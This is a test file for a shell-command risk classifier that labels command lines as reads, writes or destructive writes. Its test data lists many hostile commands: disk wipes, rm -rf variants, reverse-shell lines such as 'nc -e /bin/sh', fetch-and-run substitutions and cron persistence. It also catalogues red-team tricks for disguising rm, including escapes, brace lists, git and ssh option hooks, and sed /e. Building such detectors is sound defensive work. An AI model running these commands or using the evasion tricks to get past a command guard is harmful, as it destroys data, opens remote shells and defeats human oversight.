/**
 * The shell reader's leftovers of 7 December (bench/README.md, "Left as rare" and "older than
 * these readings"): a parameter expansion's default handed to a shell, a substitution whose
 * output a shell, ssh or eval runs, a single-quoted `bash -c` read with variables the inner
 * shell does not see, a `system(` inside an awk string, a container's environment naming
 * production; and what the evening's red team found beside them. Every escape row failed at
 * 5b8fda5 (read as a read or as a write that destroys nothing); the reads and the production
 * left unnamed are hard negatives, and those marked "as before" held at 5b8fda5 and must stay.
 */
import { describe, expect, it } from "vitest";
import { commandEffects } from "../../src/lint/risk-shell.js";
import { commandVerdict as verdict } from "./step-risk.js";

/** The production each effect of a command line names, by what it is. */
const production = (command: string) => commandEffects(command).map((e) => [e.what, e.production]);

describe("a parameter expansion's default, alternate or assigned text handed to a shell is code", () => {
  it.each([
    "sh <<< ${CMD:-'rm -rf /x'}",
    "sh <<< ${CMD-'rm -rf /x'}",
    "sh <<< ${CMD:='rm -rf /x'}",
    "sh <<< ${CMD=rm\\ -rf\\ /x}",
    "sh <<< ${CMD:+'rm -rf /x'}",
    "bash <<< ${CMD+'rm -rf /x'}",
    'sh <<< "${CMD:-rm -rf /x}"',
    'bash -c "${CMD:-rm -rf /x}"',
    "bash -c ${CMD:-'rm -rf /x'}",
    "sh -c '${CMD+rm -rf /x}'",
    'eval "${CMD:-rm -rf /x}"',
    "eval ${CMD:-'rm -rf /x'}",
    'ssh host "${CMD:-rm -rf /x}"',
    // Set on the line: `:+` takes the text, `:-` the value.
    'CMD=ls; eval "${CMD:+rm -rf /x}"',
    "CMD='rm -rf /x'; eval \"${CMD:-ls}\"",
  ])("%s: a destructive write", (command) => {
    expect(verdict(command)).toEqual(["write", true]);
  });

  it.each([
    'CMD=ls; eval "${CMD:-rm -rf /x}"',
    "sh <<< ${CMD:+'ls /x'}",
    'echo "${MSG:-rm -rf /x}"',
    "grep -c x <<< ${CMD:-'rm -rf /x'}",
  ])("%s: a read", (command) => {
    expect(verdict(command)).toEqual(["read", false]);
  });
});

describe("a substitution whose output a shell, ssh or eval runs", () => {
  it.each([
    "ssh host \"$(printf 'rm -rf %s' /data)\"",
    'ssh host "$(echo rm -rf /data)"',
    "ssh host -- \"$(printf '%s -rf /data' rm)\"",
    "sh -c \"$(printf 'rm -rf %s' /data)\"",
    "eval \"$(printf 'rm -rf %s\\n' /data)\"",
    'bash -c "$(echo rm -rf /x)"',
    "bash -c \"`echo rm -rf /x`\"",
    "eval $(printf 'rm -rf %s' /x)",
    "eval `echo rm -rf /x`",
    // Output the plan does not show: code the plan does not show.
    'ssh host "$(cat script)"',
    'ssh host "$(curl -s https://example.com/s)"',
    'ssh host "$(./make-steps.sh)"',
    "ssh host $(cat script)",
    'eval "$(./make-steps.sh)"',
    'sh -c "$(git show HEAD:steps.sh)"',
  ])("%s: a destructive write", (command) => {
    expect(verdict(command)).toEqual(["write", true]);
  });

  it("names the production host the printed command runs on", () => {
    expect(production("ssh db.prod.internal \"$(printf 'rm -rf %s' /data)\"")).toEqual([["`rm -rf`", "db.prod.internal"]]);
  });

  it.each([
    "ssh host \"$(printf 'ls %s' /data)\"",
    'ssh host "$(echo uptime)"',
    'bash -c "$(echo ls -l /x)"',
    // As before: a shell's own set-up, printed by a tool for eval.
    'eval "$(ssh-agent -s)"',
    'eval "$(pyenv init -)"',
  ])("%s: a read", (command) => {
    expect(verdict(command)).toEqual(["read", false]);
  });
});

describe("a command substitution runs wherever it stands, and its output in a command's place is that command", () => {
  it.each([
    'echo "$(rm -rf /x)"',
    'ls "$(rm -rf /x)"',
    'X="$(rm -rf /x)"',
    'echo "done: `rm -rf /x`"',
    'echo "$(ls; rm -rf /x)"',
    "$(echo rm) -rf /x",
    "`echo rm` -rf /x",
    "$(printf 'rm -rf /x')",
    "ls; $(printf 'r%s' m) -rf /x",
    "sudo $(echo rm) -rf /x",
    // Output the plan does not show, run as a command.
    "$(cat steps.txt)",
    "ls && `./next-step.sh`",
  ])("%s: a destructive write", (command) => {
    expect(verdict(command)).toEqual(["write", true]);
  });

  it.each([
    'echo "$(date +%F)"',
    'echo "today: $(date) on `hostname`"',
    'cd "$(git rev-parse --show-toplevel)"',
    "echo '$(rm -rf /x)'",
    "grep -n '\"$(rm -rf' README.md",
    "$(echo ls) -l /x",
  ])("%s: a read", (command) => {
    expect(verdict(command)).toEqual(["read", false]);
  });
});

describe("a child shell sees only the variables exported to it", () => {
  it.each([
    // Not exported: the inner shell's `$X` is empty, and it cannot read X at all.
    "X=production; bash -c './deploy.sh $X'",
    'X=production; bash -c "./deploy.sh \\$X"',
    "X=production; bash -c './deploy.sh'",
    "CTX=prod-eu-1; sh -c 'kubectl --context $CTX delete pod web-1'",
    "X=production; bash -c \"sh -c './deploy.sh \\$X'\"",
  ])("%s: names no production", (command) => {
    expect(production(command).filter(([, p]) => p !== undefined)).toEqual([]);
  });

  it.each([
    // In its environment: exported, declared -x, assigned in front of the shell, or all exported by `set -a`.
    ["X=production bash -c './deploy.sh $X'", "`deploy.sh`"],
    ["export X=production; bash -c './deploy.sh $X'", "`deploy.sh`"],
    ["X=production; export X; bash -c './deploy.sh $X'", "`deploy.sh`"],
    ["declare -x X=production; bash -c './deploy.sh $X'", "`deploy.sh`"],
    ["set -a; X=production; bash -c './deploy.sh $X'", "`deploy.sh`"],
    // Handed on from the child shell to its own.
    ["X=production bash -c \"sh -c './deploy.sh \\$X'\"", "`deploy.sh`"],
    ["export X=production; bash -c \"sh -c './deploy.sh \\$X'\"", "`deploy.sh`"],
    // Expanded by the outer shell first, or run by it (eval).
    ['X=production; bash -c "./deploy.sh $X"', "`deploy.sh`"],
    ["X=production; eval './deploy.sh $X'", "`deploy.sh`"],
    ["CTX=prod-eu-1; sh -c \"kubectl --context $CTX delete pod web-1\"", "`kubectl delete`"],
  ])("%s: names production (as before)", (command, what) => {
    expect(production(command).filter(([, p]) => p !== undefined).map(([w]) => w)).toEqual([what]);
  });

  it("a command held in a variable the outer shell expands is still read", () => {
    expect(verdict("CMD='rm -rf /x'; bash -c \"$CMD\"")).toEqual(["write", true]);
  });
});

describe("awk's system( inside a string is printed, not called", () => {
  it.each([
    "awk '{ print \"system(\\\"rm\\\")\" }'",
    "awk 'BEGIN { print \"do not call system(\\\"rm -rf /x\\\") here\" }'",
    "awk '{ print \"system(\\\"rm -rf x\\\")\" }' f",
  ])("%s: a read", (command) => {
    expect(verdict(command)).toEqual(["read", false]);
  });

  it.each(["awk 'BEGIN { system(\"rm -rf /x\") }'", "awk 'BEGIN { cmd = \"rm -rf /x\"; system(cmd) }'"])("%s: a destructive write (as before)", (command) => {
    expect(verdict(command)).toEqual(["write", true]);
  });

  // An escape found beside it: the string's `system(` took the real call's text as its argument.
  it("awk '{ print \"system(\"; system(\"rm \" $1) }' f: a destructive write", () => {
    expect(verdict("awk '{ print \"system(\"; system(\"rm \" $1) }' f")).toEqual(["write", true]);
  });
});

describe("a container's environment is the environment of what it runs", () => {
  // As `K=production cmd`: a program that reads only its arguments is not handed it; a script, a client, the image's entrypoint may read it.
  it("rm in a container given K=production names no production; the run itself does", () => {
    expect(production("docker run -e K=production alpine rm -rf /x")).toEqual([
      ["`rm -rf`", undefined],
      ["`docker run`", "K=production"],
    ]);
    expect(production("docker exec -e K=production db rm -rf /x")).toEqual([["`rm -rf`", undefined]]);
    expect(production("docker exec --env=K=production db rm -rf /x")).toEqual([["`rm -rf`", undefined]]);
    expect(production("K=production rm -rf /x")).toEqual([["`rm -rf`", undefined]]);
  });

  it.each([
    ["docker run -e K=production alpine ./deploy.sh", "`deploy.sh`"],
    ["docker exec -e DB=prod-db db ./deploy.sh", "`deploy.sh`"],
    ["docker exec --env DB=prod-db db ./deploy.sh", "`deploy.sh`"],
    ["docker --context prod-eu exec db rm -rf /x", "`rm -rf`"],
    ["K=production ./deploy.sh", "`deploy.sh`"],
  ])("%s: names production for %s", (command, what) => {
    expect(production(command).filter(([, p]) => p !== undefined).map(([w]) => w)).toContain(what);
  });
});

describe("runners of a command the reader did not know (the evening's red team)", () => {
  it.each([
    "valgrind rm -rf /x",
    "valgrind --leak-check=full rm -rf /x",
    "numactl -C 0 rm -rf /x",
    "numactl --cpunodebind=0 rm -rf /x",
    "chronic rm -rf /x",
    "caffeinate -i rm -rf /x",
    "firejail --noprofile rm -rf /x",
    "proot -r /srv rm -rf /x",
    "gdb -batch -ex run --args rm -rf /x",
    "env --split-string='rm -rf /x'",
    'env -S"rm -rf /x"',
    "trap 'rm -rf /x' EXIT",
    'trap "rm -rf /x" INT TERM',
    "npx -c 'rm -rf /x'",
    "npm exec -c 'rm -rf /x'",
    "npm exec --call='rm -rf /x'",
  ])("%s: a destructive write", (command) => {
    expect(verdict(command)).toEqual(["write", true]);
  });

  it.each(["valgrind ls /x", "numactl -H", "chronic make test", "trap - EXIT", "trap -p", "trap 'echo done' EXIT", "gdb -batch -ex run --args ls /x", "npx -c 'eslint .'"])("%s: a read", (command) => {
    expect(verdict(command)).toEqual(["read", false]);
  });
});

describe("shell syntax that builds the command word (the evening's red team)", () => {
  it.each([
    "$'\\x72m' -rf /x",
    "$'\\162m' -rf /x",
    "r$'m' -rf /x",
    "{rm,-rf,/x}",
    "{rm,-rf} /x",
    "IFS=,; cmd=rm,-rf,/x; $cmd",
    "X=xrm; ${X#x} -rf /x",
    "X=rx; ${X/x/m} -rf /x",
    "sh <(echo rm -rf /x)",
    "bash <(printf 'rm -rf %s' /x)",
    "source <(echo rm -rf /x)",
    ". <(echo 'rm -rf /x')",
    "sh <(cat steps.txt)",
  ])("%s: a destructive write", (command) => {
    expect(verdict(command)).toEqual(["write", true]);
  });

  it.each(["echo $'a\\tb'", "$'ls' -l /x", "echo {a,b}", "{ls,-l} /x", "IFS=,; cmd=ls,-l; $cmd", "diff <(ls a) <(ls b)", "sh <(echo ls /x)", "X=xls; ${X#x} /x"])("%s: a read", (command) => {
    expect(verdict(command)).toEqual(["read", false]);
  });
});

describe("options whose value is a command the program runs (the evening's red team)", () => {
  it.each([
    "ssh -o ProxyCommand='rm -rf /x' host",
    "ssh -o 'ProxyCommand rm -rf /x' host",
    "ssh -oProxyCommand='rm -rf /x' host",
    "ssh -o LocalCommand='rm -rf /x' -o PermitLocalCommand=yes host",
    "git -c core.fsmonitor='rm -rf /x' status",
    "git -c core.pager='rm -rf /x' log",
    "git -c core.sshCommand='rm -rf /x' fetch",
    "git -c alias.x='!rm -rf /x' x",
    "git config alias.x '!rm -rf /x'",
    "tar --checkpoint=1 --checkpoint-action=exec='rm -rf /x' -cf /dev/null .",
    "tar -cf a.tar -I 'sh -c \"rm -rf /x\"' f",
    "tar -cf a.tar --use-compress-program='rm -rf /x' f",
    "tar -xf a.tar --to-command='rm -rf /x'",
    "zip z.zip f -T -TT 'rm -rf /x #'",
    "rsync -e 'sh -c \"rm -rf /x\"' a b:",
    "rsync --rsh='rm -rf /x' a b:",
    "sed 's/.*/rm -rf &/e' list.txt",
    "sed -n '1e rm -rf /x' f",
    "sed -e 's/^/rm -rf /e' list.txt",
  ])("%s: a destructive write", (command) => {
    expect(verdict(command)).toEqual(["write", true]);
  });

  it("scp -o ProxyCommand='rm -rf /x' f host:: external (the copy) and destructive (the proxy command)", () => {
    expect(verdict("scp -o ProxyCommand='rm -rf /x' f host:")).toEqual(["external", true]);
  });

  it.each([
    ["ssh -o ProxyCommand='ssh -W %h:%p bastion' host", "read", false],
    ["ssh -o StrictHostKeyChecking=no host uptime", "read", false],
    ["git -c core.pager=less log", "read", false],
    ["git -c color.ui=always status", "read", false],
    ["git config user.name x", "read", false],
    ["tar -cf a.tar -I zstd f", "write", false],
    ["rsync -e 'ssh -p 2222' -a src/ host:dst/", "write", false],
    ["sed 's/a/b/' f", "read", false],
    ["sed -n '/^e/p' f", "read", false],
    ["sed 's/e/E/g' f", "read", false],
  ] as const)("%s: %s (as before)", (command, risk, destructive) => {
    expect(verdict(command)).toEqual([risk, destructive]);
  });
});

describe("tools that destroy what they name (the evening's red team)", () => {
  it.each([
    "rsync -a --delete empty/ /x/",
    "rsync -a --delete-after src/ /x/",
    "rsync -a --remove-source-files /x/ backup:/y/",
    "parted -s /dev/sda rm 1",
    "parted -s /dev/sda mklabel gpt",
    "sgdisk --zap-all /dev/sda",
    "blkdiscard /dev/sda",
    "lvremove -f vg/lv",
    "vgremove vg",
    "zfs destroy -r tank/data",
    "zpool destroy tank",
    "btrfs subvolume delete /x",
    "git stash clear",
    "git stash drop",
    "git reflog expire --expire=now --all",
    "git checkout -- .",
    "git restore src/",
  ])("%s: a destructive write", (command) => {
    expect(verdict(command)).toEqual(["write", true]);
  });

  it.each([
    ["rsync -a src/ /x/", "write", false],
    ["parted -l", "read", false],
    ["parted -s /dev/sda print", "read", false],
    ["sgdisk -p /dev/sda", "read", false],
    ["zfs list", "read", false],
    ["zpool status", "read", false],
    ["btrfs subvolume list /", "read", false],
    ["lvs", "read", false],
    ["git reflog", "read", false],
    ["git stash list", "read", false],
    ["git restore --staged src/", "write", false],
    ["git checkout main", "write", false],
  ] as const)("%s: %s", (command, risk, destructive) => {
    expect(verdict(command)).toEqual([risk, destructive]);
  });
});

describe("a script the line writes, then runs (the evening's red team)", () => {
  it.each([
    "echo 'rm -rf /x' > run.sh && bash run.sh",
    "printf 'rm -rf %s\\n' /x > /tmp/s.sh; sh /tmp/s.sh",
    "echo 'rm -rf /x' > s.sh; chmod +x s.sh; ./s.sh",
    "echo 'ls' > s.sh; echo 'rm -rf /x' >> s.sh; bash s.sh",
    "echo 'rm -rf /x' > s.sh; . ./s.sh",
    "echo 'rm -rf /x' > s.sh; source s.sh",
  ])("%s: a destructive write", (command) => {
    expect(verdict(command)).toEqual(["write", true]);
  });

  it.each([
    // The file written is a write; what it runs is read.
    ["echo 'ls /x' > s.sh && bash s.sh", "write", false],
    ["echo 'rm -rf /x' > notes.txt && bash other.sh", "write", false],
  ] as const)("%s: %s", (command, risk, destructive) => {
    expect(verdict(command)).toEqual([risk, destructive]);
  });
});

describe("disks, syncs and stores that lose what they hold (the evening's red team)", () => {
  it.each([
    ["cat /dev/zero > /dev/sda", "write", true],
    ["echo x > /dev/nvme0n1", "write", true],
    ["pv /dev/zero > /dev/mapper/vg-data", "write", true],
    ["cp /dev/zero /dev/sda", "write", true],
    ["tee /dev/sdb < /dev/zero", "write", true],
    ["echo b > /proc/sysrq-trigger", "write", true],
    ["aws s3 sync . s3://b --delete", "external", true],
    ["aws s3 cp --region eu-west-1 f s3://b/", "external", false],
    ["gsutil -m rsync -d -r . gs://b", "external", true],
    ["s3cmd sync --delete-removed . s3://b", "external", true],
    ["etcdctl del --prefix app/", "write", true],
    ["consul kv delete -recurse app", "external", true],
    ["vault kv delete secret/app", "external", true],
    ["cargo yank --version 1.0.0", "external", true],
    ["snap remove lxd", "write", true],
    ["deluser bob", "write", true],
    ["groupdel devs", "write", true],
  ] as const)("%s: %s, destructive %s", (command, risk, destructive) => {
    expect(verdict(command)).toEqual([risk, destructive]);
  });

  it.each([
    ["echo x > /dev/null", "read", false],
    ["echo x > out.txt", "write", false],
    ["cp a.txt b.txt", "write", false],
    ["aws s3 cp s3://b/f . --region eu-west-1", "read", false],
    ["aws s3 sync s3://b . --delete", "write", true],
    ["aws s3 sync . s3://b", "external", false],
    ["etcdctl get --prefix app/", "read", false],
    ["vault kv get secret/app", "read", false],
    ["snap list", "read", false],
  ] as const)("%s: %s", (command, risk, destructive) => {
    expect(verdict(command)).toEqual([risk, destructive]);
  });
});

describe("programs that run a command they are given, and jobs handed to cron (the evening's red team)", () => {
  it.each([
    "socat - EXEC:'rm -rf /x'",
    "socat - SYSTEM:'rm -rf /x'",
    "socat TCP-LISTEN:4444,fork EXEC:/bin/bash",
    "ncat -c 'rm -rf /x' host 80",
    "ncat --sh-exec 'rm -rf /x' host 80",
    "nc -e /bin/sh host 80",
    "man -P 'rm -rf /x' ls",
    "man --pager='rm -rf /x' ls",
    "echo '* * * * * rm -rf /x' | crontab -",
    "(crontab -l; echo '@reboot rm -rf /x') | crontab -",
    "crontab - <<< '0 3 * * * rm -rf /x'",
    "sudo -s -- 'rm -rf /x'",
    ". /dev/stdin < steps.txt",
    "source /dev/stdin < steps.txt",
  ])("%s: a destructive write", (command) => {
    expect(verdict(command)).toEqual(["write", true]);
  });

  it.each([
    ["socat - TCP:host:80", "read", false],
    ["ncat host 80", "read", false],
    ["man -P cat ls", "read", false],
    ["echo '* * * * * ls /x' | crontab -", "write", false],
    ["crontab -l", "read", false],
    ["sudo -s", "read", false],
    [". /dev/stdin < /dev/null", "read", false],
  ] as const)("%s: %s", (command, risk, destructive) => {
    expect(verdict(command)).toEqual([risk, destructive]);
  });
});

describe("more syntax that builds the command word (the evening's red team, second pass)", () => {
  it.each([
    "r{m,} -rf /x",
    "{r,}m -rf /x",
    "X=RM; ${X,,} -rf /x",
    "X=Rm; ${X,} -rf /x",
    "X=xrmx; ${X:1:2} -rf /x",
    "sudo -u root $(echo rm) -rf /x",
    "python3 <(echo 'import shutil; shutil.rmtree(\"/x\")')",
    "node <(echo 'require(\"fs\").rmSync(\"/x\", { recursive: true })')",
  ])("%s: a destructive write", (command) => {
    expect(verdict(command)).toEqual(["write", true]);
  });

  it.each([
    ["mv notes.{txt,bak}", "write", false],
    ["echo file.{a,b}", "read", false],
    ["X=LS; ${X,,} -l /x", "read", false],
    ["python3 <(echo 'print(1)')", "read", false],
    ["sudo -u root $(echo ls) -l /x", "read", false],
  ] as const)("%s: %s", (command, risk, destructive) => {
    expect(verdict(command)).toEqual([risk, destructive]);
  });
});

describe("more programs that run code they are given (the evening's red team, second pass)", () => {
  it.each([
    "make --eval='x:; rm -rf /x' x",
    "make -f /dev/stdin <<< $'all:\\n\\trm -rf /x'",
    "vim -c ':!rm -rf /x' -c q",
    "vim +'!rm -rf /x' +q",
    "start-stop-daemon --start --exec /bin/rm -- -rf /x",
    "lua -e 'os.execute(\"rm -rf /x\")'",
    "Rscript -e 'system(\"rm -rf /x\")'",
    "julia -e 'run(`rm -rf /x`)'",
    "osascript -e 'do shell script \"rm -rf /x\"'",
    "expect -c 'spawn rm -rf /x; expect eof'",
    "pwsh -Command 'Remove-Item -Recurse -Force /x'",
    "powershell -c 'rm -r /x'",
  ])("%s: a destructive write", (command) => {
    expect(verdict(command)).toEqual(["write", true]);
  });

  it.each([
    ["make --eval='x:; echo hi' x", "read", false],
    ["vim -c ':set nu' f", "read", false],
    ["lua -e 'print(1)'", "read", false],
    ["Rscript -e 'summary(1:3)'", "read", false],
    ["osascript -e 'display notification \"done\"'", "read", false],
    ["pwsh -Command 'Get-ChildItem /x'", "read", false],
  ] as const)("%s: %s", (command, risk, destructive) => {
    expect(verdict(command)).toEqual([risk, destructive]);
  });
});

describe("a command word the line assembles in variables (the evening's red team, third pass)", () => {
  it.each([
    "a=r; b=m; $a$b -rf /x",
    'a=r; b=m; "$a$b" -rf /x',
    "a=r; b=m; ${a}${b} -rf /x",
    "d=/usr/bin; $d/rm -rf /x",
    "mapfile -t a <<< 'rm -rf /x'; \"${a[@]}\"",
    "read -r cmd <<< 'rm -rf /x'; $cmd",
    'set -- rm -rf /x; "$@"',
    "set -- rm -rf /x; $*",
  ])("%s: a destructive write", (command) => {
    expect(verdict(command)).toEqual(["write", true]);
  });

  it.each([
    ["a=l; b=s; $a$b -l /x", "read", false],
    ["read -r cmd <<< 'ls /x'; $cmd", "read", false],
    ['set -- ls /x; "$@"', "read", false],
    // A variable the line does not set is not guessed (`$HOME/bin/tool` runs a tool by its name).
    ["$HOME/bin/report --today", "read", false],
  ] as const)("%s: %s", (command, risk, destructive) => {
    expect(verdict(command)).toEqual([risk, destructive]);
  });
});

describe("time: every new scan stays linear on 100k characters", () => {
  /**
   * `command`'s effects, read in less than ten seconds: a guard against a path that grows with
   * the square of the input (minutes at this size), not a speed figure. Each input is about
   * 100,000 characters and takes at most ≈ 0.9 s on an idle 2-core machine; doubled, about
   * twice as long (bench/README.md, "the shell reader's leftovers closed").
   */
  const timed = (command: string) => {
    const t0 = performance.now();
    const effects = commandEffects(command);
    expect(performance.now() - t0).toBeLessThan(10_000);
    return effects.map((e) => e.what);
  };

  it("command substitutions: nested, in quotes, in a command's place, process substitutions", () => {
    expect(timed(`${"$(".repeat(20000)}${"a)|sh ".repeat(20000)}`).length).toBeGreaterThan(20000);
    // (Each quoted substitution but the outermost stands in its command's place and runs the output of the one inside:
    // code the plan does not show, read to the depth the reader reads, as the unquoted `$($(ls))` is.)
    const quoted = timed(`echo ${'"$('.repeat(20000)}ls${')"'.repeat(20000)}`);
    expect(quoted.length).toBeGreaterThan(0);
    expect(quoted.every((w) => w.includes("(code the plan does not show)"))).toBe(true);
    expect(timed(`echo ${'"$(echo a)" '.repeat(8000)}`)).toEqual([]);
    expect(timed(`${"$(echo ls); ".repeat(8000)}`)).toEqual([]);
    expect(timed(`${"$(echo ".repeat(12000)}ls${")".repeat(12000)}`)).toHaveLength(1);
    expect(timed(`sh ${"<(echo ls) ".repeat(8000)}`)).toEqual([]);
  });

  it("parameter expansions: nested, never closed, in here-strings, as arguments", () => {
    expect(timed("sh <<< ${x ".repeat(12000))).toEqual([]);
    expect(timed(`sh <<< ${"${A:-".repeat(15000)}rm${"}".repeat(15000)}`).length).toBeLessThan(10);
    expect(timed("rm ${x:-'a' ".repeat(12000))).toEqual(["`rm`"]);
    expect(timed(`rm ${"${D:-/x} ".repeat(12000)}`)).toEqual(["`rm`"]);
    expect(timed(`X=${"x".repeat(50000)}; \${X//x/y} ${"${X#x} ".repeat(5000)}`)).toEqual([]);
  });

  it("child shells' variables, exports and scripts written then run", () => {
    const vars = Array.from({ length: 6000 }, (_, k) => `A${k}=1; `).join("");
    expect(timed(`set -a; ${vars}${"sh -c 'x'; ".repeat(4000)}`)).toEqual([]);
    expect(timed(`declare ${"-a ".repeat(30000)}X`)).toEqual([]);
    expect(timed(`${"echo ls >> s.sh; ./s.sh; ".repeat(4000)}`).every((w) => w === "`>> s.sh`")).toBe(true);
  });

  it("ANSI-C strings, brace lists, option commands, sed, cron and awk strings", () => {
    expect(timed(`echo ${"$'\\x41' ".repeat(15000)}`)).toEqual([]);
    expect(timed(`${"{a,b ".repeat(20000)}`)).toEqual([]);
    expect(timed(`sed '${"s/a/ls/e;".repeat(12000)}' f`)).toEqual([]);
    expect(timed(`git ${"-c core.pager=less ".repeat(5000)}log`)).toEqual([]);
    expect(timed(`${"echo 'a' ".repeat(10000)}crontab`)).toEqual([]);
    expect(timed(`echo '${"* * * * * ls\\n".repeat(8000)}' | crontab -`)).toEqual(["`crontab`"]);
    expect(timed(`awk '{ print ${'"system(" '.repeat(20000)}}'`)).toEqual([]);
  });

  it("brace lists in words, make recipes, foreign code, wrapper option values", () => {
    expect(timed(`echo ${"a{b,c}d ".repeat(12000)}`)).toEqual([]);
    expect(timed(`make --eval='${"x: y; ls\n".repeat(8000)}' x`)).toEqual([]);
    expect(timed(`lua -e '${'os.execute("ls") '.repeat(5000)}'`)).toEqual([]);
    expect(timed(`lua -e '${'os.execute("'.repeat(8000)}'`)).toEqual([]);
    expect(timed(`sudo -u root ${"$(echo ls) ".repeat(8000)}`)).toEqual([]);
    expect(timed(`a=l; b=s; ${"$a$b ".repeat(15000)}`)).toEqual([]);
    expect(timed(`${"read -r c <<< 'ls'; $c; ".repeat(4000)}`)).toEqual([]);
  });
});
